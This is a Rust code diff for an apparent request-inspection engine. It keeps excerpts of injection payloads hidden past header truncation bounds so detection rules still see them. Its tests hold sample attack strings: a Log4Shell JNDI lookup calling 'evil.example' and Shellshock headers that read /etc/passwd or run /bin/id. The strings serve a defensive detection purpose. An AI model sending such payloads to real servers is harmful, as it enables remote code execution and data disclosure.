@@ -29,6 +29,33 @@ pub fn truncate(s: &str, max: usize) -> &str {
 /// Most bytes of one header value; longer values are cut.
 pub const MAX_HEADER_VALUE_BYTES: usize = 2 * 1024;
 
+/// Most payload excerpts added past the bounds ([`payload_excerpt`]).
+pub const MAX_PAYLOAD_EXCERPTS: usize = 4;
+/// Most bytes of one payload excerpt.
+pub const PAYLOAD_EXCERPT_BYTES: usize = 256;
+
+/// The payload a header carries in a part the bounds cut (`cut_from`: the byte where
+/// the cut began, 0 for a header dropped whole): from the first injection marker there
+/// that rule components look for in any header (a log4j lookup's `${`, a shell
+/// function definition `() {` opening the value), at most [`PAYLOAD_EXCERPT_BYTES`].
+/// So padding a value, or sending a payload past the line bound, hides nothing.
+fn payload_excerpt(value: &str, cut_from: usize) -> Option<&str> {
+    // A marker may straddle the cut: look from a few bytes before it.
+    let mut from = cut_from.saturating_sub(4);
+    while !value.is_char_boundary(from) {
+        from -= 1;
+    }
+    let bytes = value.as_bytes();
+    if cut_from == 0 && value.trim_ascii_start().starts_with("() {") {
+        return Some(truncate(value.trim_ascii_start(), PAYLOAD_EXCERPT_BYTES));
+    }
+    memchr::memchr_iter(b'$', &bytes[from..])
+        .map(|i| from + i)
+        .find(|&at| bytes[at..].starts_with(b"${"))
+        // `$` is ASCII: `at` is a character boundary.
+        .map(|at| truncate(&value[at..], PAYLOAD_EXCERPT_BYTES))
+}
+
 /// Headers rule components rely on. When the line bound is reached, each of these is
 /// still kept once, so that a flood of filler headers cannot hide them.
 const ESSENTIAL_HEADERS: [&str; 15] = [
@@ -55,7 +82,9 @@ const ESSENTIAL_HEADERS: [&str; 15] = [
 /// [`MAX_HEADER_LINES`] lines (plus, past that, the first occurrence of each essential
 /// header), [`MAX_HEADER_BYTES`] bytes, values cut to [`MAX_HEADER_VALUE_BYTES`]. Values
 /// that are not UTF-8 are passed lossily; line breaks inside a value become spaces so a
-/// value can never forge a header line. The flag says whether anything was cut.
+/// value can never forge a header line. Past all bounds, up to [`MAX_PAYLOAD_EXCERPTS`]
+/// lines `name: excerpt` carry the payloads found in what was cut
+/// ([`payload_excerpt`]). The flag says whether anything was cut.
 pub fn join_headers<'a, I>(host: &str, headers: I) -> (String, bool)
 where
     I: IntoIterator<Item = (&'a str, &'a [u8])>,
@@ -66,6 +95,14 @@ where
     let mut lines = 1usize;
     let mut late_essentials = 0u32;
     let mut truncated = false;
+    let mut excerpts: smallvec::SmallVec<[(&str, String); 1]> = smallvec::SmallVec::new();
+    let mut keep_excerpt = |name: &'a str, value: &str, cut_from: usize| {
+        if excerpts.len() < MAX_PAYLOAD_EXCERPTS
+            && let Some(excerpt) = payload_excerpt(value, cut_from)
+        {
+            excerpts.push((name, excerpt.to_owned()));
+        }
+    };
     for (name, value) in headers {
         if name.eq_ignore_ascii_case("host") {
             continue;
@@ -77,7 +114,6 @@ where
             Err(_) => String::from_utf8_lossy(value),
         };
         let cut = truncate(&value, MAX_HEADER_VALUE_BYTES);
-        truncated |= cut.len() < value.len();
         if lines >= MAX_HEADER_LINES {
             truncated = true;
             let essential = ESSENTIAL_HEADERS
@@ -85,13 +121,21 @@ where
                 .position(|e| e.eq_ignore_ascii_case(name));
             match essential {
                 Some(i) if late_essentials & (1 << i) == 0 => late_essentials |= 1 << i,
-                _ => continue,
+                _ => {
+                    keep_excerpt(name, &value, 0);
+                    continue;
+                }
             }
         }
         let extra = 1 + name.len() + 2 + cut.len();
         if out.len() + extra > MAX_HEADER_BYTES {
             truncated = true;
+            keep_excerpt(name, &value, 0);
             continue;
+        }
+        if cut.len() < value.len() {
+            truncated = true;
+            keep_excerpt(name, &value, cut.len());
         }
         out.push('\n');
         // Names from `http` are lower case already, and its values hold no line
@@ -113,6 +157,16 @@ where
             out.push_str(cut);
         }
         lines += 1;
+    }
+    for (name, excerpt) in excerpts {
+        out.push('\n');
+        out.extend(name.chars().map(|c| c.to_ascii_lowercase()));
+        out.push_str(": ");
+        out.extend(
+            excerpt
+                .chars()
+                .map(|c| if c == '\n' || c == '\r' { ' ' } else { c }),
+        );
     }
     (out, truncated)
 }
@@ -232,6 +286,61 @@ mod tests {
 
     fn join<'a>(headers: impl IntoIterator<Item = (&'a str, &'a [u8])>) -> (String, bool) {
         join_headers("www.example.com", headers)
+    }
+
+    #[test]
+    fn payloads_in_what_the_bounds_cut_are_kept_as_excerpts() {
+        let payload = "${jndi:ldap://evil.example/a}";
+        // Behind padding in one value, straddling the cut, and in the 78th header.
+        let padded = format!("{}{payload}", "a".repeat(4000));
+        let straddling = format!("{}{payload}", "a".repeat(MAX_HEADER_VALUE_BYTES - 1));
+        let mut many: Vec<(String, String)> = (0..77)
+            .map(|i| (format!("x-filler-{i}"), "1".to_owned()))
+            .collect();
+        many.push(("x-late".into(), payload.into()));
+        many.push(("x-shell".into(), "() { :; }; /bin/cat /etc/passwd".into()));
+        for headers in [
+            vec![("x-pad".to_owned(), padded)],
+            vec![("x-pad".to_owned(), straddling)],
+            many,
+        ] {
+            let (joined, cut) = join(headers.iter().map(|(n, v)| (n.as_str(), v.as_bytes())));
+            assert!(cut);
+            assert!(joined.contains(&format!(": {payload}")), "{joined}");
+        }
+        let (joined, _) = join((0..70).map(|i| {
+            if i < 69 {
+                ("x-filler", &b"1"[..])
+            } else {
+                ("x-shell", &b" () { :; }; /bin/id"[..])
+            }
+        }));
+        assert!(
+            joined.ends_with("\nx-shell: () { :; }; /bin/id"),
+            "{joined}"
+        );
+    }
+
+    #[test]
+    fn long_benign_headers_add_no_excerpt_and_excerpts_are_bounded() {
+        let cookie = format!("session={}", "b".repeat(4096));
+        let mut headers: Vec<(String, String)> = vec![("cookie".into(), cookie)];
+        headers.extend((0..100).map(|i| (format!("x-ordinary-{i}"), format!("value {i}"))));
+        let (joined, cut) = join(headers.iter().map(|(n, v)| (n.as_str(), v.as_bytes())));
+        assert!(cut);
+        assert_eq!(joined.lines().count(), MAX_HEADER_LINES);
+        let flood: Vec<(String, String)> = (0..200)
+            .map(|i| (format!("x-{i}"), format!("${{jndi:ldap://e/{i}}}")))
+            .collect();
+        let (joined, _) = join(flood.iter().map(|(n, v)| (n.as_str(), v.as_bytes())));
+        assert_eq!(
+            joined.lines().count(),
+            MAX_HEADER_LINES + MAX_PAYLOAD_EXCERPTS
+        );
+        let huge = format!("{}${{jndi:{}}}", "a".repeat(3000), "z".repeat(5000));
+        let (joined, _) = join([("x-huge", huge.as_bytes())]);
+        let excerpt = joined.lines().last().unwrap();
+        assert_eq!(excerpt.len(), "x-huge: ".len() + PAYLOAD_EXCERPT_BYTES);
     }
 
     #[test]
